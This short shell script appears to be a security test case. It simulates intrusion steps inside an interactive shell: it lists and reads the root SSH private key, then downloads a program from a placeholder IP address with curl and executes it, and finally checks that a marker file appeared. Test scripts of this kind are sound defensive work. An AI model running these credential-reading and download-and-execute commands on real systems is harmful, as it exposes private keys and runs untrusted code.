#!/bin/sh
. /opt/case/case.sh

test -t 0
bash --norc -i <<'END'
id; cat /etc/os-release; ls -la /root/.ssh; cat /root/.ssh/id_rsa >/dev/null
cd /tmp && curl -sO http://203.0.113.10/programs/marker && chmod +x marker && ./marker
exit
END
test -e /tmp/reached
took_place
